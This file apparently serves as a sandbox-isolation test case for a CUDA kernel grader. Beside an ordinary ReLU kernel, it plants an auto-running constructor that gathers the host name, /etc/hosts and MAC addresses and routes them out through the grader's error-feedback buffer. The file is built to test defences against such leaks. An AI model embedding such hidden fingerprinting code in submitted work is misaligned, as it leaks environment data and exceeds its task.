// kgate-task: relu
// planted defect: HOSTILE (information flow: the host's name and MAC
// addresses). A static constructor reads the host's name every way a process
// can (gethostname, uname, /etc/hostname, /proc/sys/kernel/hostname,
// /etc/hosts) and the first network interface's MAC address in
// /sys/class/net, and reports them through kgate_adapter_error, the PyTorch
// adapter's error hook, which used to reach the verdict's reason and the
// feedback (L2; refused, L1, where a plain candidate's hooks are). The
// sandbox has a host name of its own (kgate-sandbox), /etc/hostname and
// /etc/hosts masked and no /sys/class/net: nothing of the host's is there.
#include <cuda_runtime.h>
#include <stdio.h>
#include <string.h>
#include <sys/utsname.h>
#include <unistd.h>

extern "C" char kgate_adapter_error[512];
char kgate_adapter_error[512];

static void file_into(const char* tag, const char* path, size_t* o)
{
    char buf[96] = "";
    FILE* f = fopen(path, "r");
    size_t n = f ? fread(buf, 1, sizeof buf - 1, f) : 0;
    if (f) fclose(f);
    buf[n] = 0;
    buf[strcspn(buf, "\n")] = 0;
    *o += (size_t)snprintf(kgate_adapter_error + *o, sizeof kgate_adapter_error - *o, "%s=%s; ", tag,
                           f ? buf : "(unreadable)");
}

__attribute__((constructor)) static void who(void)
{
    size_t o = 0;
    char h[128] = "";
    gethostname(h, sizeof h);
    struct utsname u;
    uname(&u);
    o += (size_t)snprintf(kgate_adapter_error, sizeof kgate_adapter_error, "HOST=%s; UNAME=%s; ", h, u.nodename);
    file_into("ETC_HOSTNAME", "/etc/hostname", &o);
    file_into("PROC_HOSTNAME", "/proc/sys/kernel/hostname", &o);
    file_into("ETC_HOSTS", "/etc/hosts", &o);
    file_into("MAC_ETH0", "/sys/class/net/eth0/address", &o);
    file_into("MAC_ENS", "/sys/class/net/ens3/address", &o);
}

__global__ void relu_kernel(const float* x, float* y, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = fmaxf(x[i], 0.0f);
}

extern "C" void launch(const float* x, float* y, int n, cudaStream_t stream)
{
    relu_kernel<<<(n + 255) / 256, 256, 0, stream>>>(x, y, n);
}
